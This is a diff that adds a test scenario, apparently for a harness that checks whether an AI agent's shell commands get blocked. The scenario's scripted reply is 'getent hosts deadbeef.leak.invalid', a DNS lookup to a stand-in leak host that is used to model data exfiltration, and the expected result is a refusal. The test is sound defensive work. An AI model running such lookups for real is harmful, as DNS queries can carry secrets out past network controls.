@@ -1,0 +1,11 @@
+;; Issue 14 class 9.
+(scenario "178-getent-hosts"
+  (doc "getent hosts is a DNS lookup")
+  (channel shell-egress)
+  (modes interactive unattended)
+  (files ("README.md" "# app\n\nA small app.\n"))
+  (replies
+    ((shell "getent hosts deadbeef.leak.invalid")))
+  (expect
+    (decision 1 security)
+    (refused 1)))
